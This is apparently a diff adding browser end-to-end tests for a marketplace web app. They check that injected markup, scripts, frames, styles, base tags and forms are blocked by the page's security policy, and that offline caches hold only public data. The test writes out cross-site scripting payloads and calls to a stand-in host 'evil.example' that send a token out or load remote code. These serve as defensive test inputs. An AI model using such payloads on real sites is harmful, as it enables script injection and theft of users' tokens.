@@ -1,0 +1,104 @@
+// What somebody can do who got something into a page, and what a device keeps where anybody may look.
+import { createHash } from 'node:crypto';
+import { paths } from '#paths';
+import { test as deviceTest, expect, installed } from './journey.ts';
+import { everythingKept } from './kept.ts';
+import { test, visit } from './screens/ground.ts';
+import { logIn } from './steps.ts';
+
+const EVIL = 'https://evil.example';
+
+test('what is injected into a page does not run, loads nothing, sends nothing and makes no policy of its own', {
+  tag: '@essential',
+}, async ({ browser, market }) => {
+  // Not the window that may make no noise: each of these attempts does.
+  const context = await browser.newContext({ baseURL: market.url, serviceWorkers: 'block' });
+  const reached: string[] = [];
+  await context.route(`${EVIL}/**`, (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ body: 'window.intruder = "loaded"', contentType: 'text/javascript' });
+  });
+  const page = await context.newPage();
+  await visit(page, '/');
+  const outcome = await page.evaluate(async (evil) => {
+    const violated: string[] = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
+    Reflect.set(window, 'violated', violated);
+    const element = <K extends keyof HTMLElementTagNameMap>(tag: K, set: (made: HTMLElementTagNameMap[K]) => void) => {
+      const made = document.createElement(tag);
+      set(made);
+      document.body.append(made);
+    };
+    const attempts: Record<string, () => unknown> = {
+      markup: () => Reflect.set(document.body, 'innerHTML', '<img src=x onerror="window.intruder = 1">'),
+      script: () => element('script', (made) => made.append('window.intruder = "inline"')),
+      loaded: () => element('script', (made) => Reflect.set(made, 'src', `${evil}/x.js`)),
+      timer: () => Reflect.apply(setTimeout, window, ['window.intruder = "timer"']),
+      policy: () =>
+        (
+          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+        ).trustedTypes.createPolicy('intruder', { createHTML: (text: string) => text }),
+      picture: () => element('img', (made) => Reflect.set(made, 'src', `${evil}/token.png`)),
+      frame: () => element('iframe', (made) => Reflect.set(made, 'src', `${evil}/frame`)),
+      style: () => element('style', (made) => made.append('body { display: none }')),
+      base: () => element('base', (made) => Reflect.set(made, 'href', `${evil}/`)),
+      form: () =>
+        element('form', (made) => {
+          made.action = `${evil}/form`;
+          made.submit();
+        }),
+    };
+    const thrown = Object.keys(attempts).filter((name) => {
+      try {
+        attempts[name]?.();
+        return false;
+      } catch {
+        return true;
+      }
+    });
+    const sent = await fetch(`${evil}/token`).then(
+      () => true,
+      () => false,
+    );
+    const { display } = getComputedStyle(document.body);
+    return { thrown, sent, display, base: document.baseURI };
+  }, EVIL);
+  expect(outcome.thrown).toEqual(['markup', 'loaded', 'timer', 'policy']);
+  expect(outcome.sent).toBe(false);
+  const refused = ['base-uri', 'connect-src', 'frame-src', 'img-src', 'style-src-elem', 'trusted-types'];
+  await expect
+    .poll(() => page.evaluate(() => Reflect.get(window, 'violated')))
+    .toEqual(expect.arrayContaining(refused));
+  expect(outcome.display).not.toBe('none');
+  expect(outcome.base).not.toContain('evil');
+  expect(await page.evaluate(() => Reflect.get(window, 'intruder'))).toBeUndefined();
+  await expect(page).toHaveURL(`${market.url}/`);
+  expect(reached).toEqual([]);
+  await context.close();
+});
+
+deviceTest(
+  'after every page of a merchant and a shopper the caches hold nothing but what anybody gets without a token',
+  async ({ device, market }) => {
+    const page = await (await device()).open();
+    await page.goto(paths.login);
+    await installed(page);
+    await logIn(page, 'fromagerie@etal.test');
+    const own = Object.values(paths).filter((path) => /^\/(admin|compte|commande)\b/.test(path) && !path.includes(':'));
+    expect(own.length).toBeGreaterThan(20);
+    for (const path of own) {
+      await page.goto(path);
+      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
+    }
+    const entries = await everythingKept(page);
+    const answers = entries.filter(({ cache }) => cache === 'etal-answers');
+    expect(answers.length).toBeGreaterThan(5);
+    for (const { cache, path, sha256 } of entries) {
+      const anonymous = await fetch(market.url + path);
+      expect(anonymous.status, path).toBe(200);
+      if (cache !== 'etal-answers') continue;
+      const bytes = Buffer.from(await anonymous.arrayBuffer());
+      expect(createHash('sha256').update(bytes).digest('hex'), path).toBe(sha256);
+    }
+  },
+);
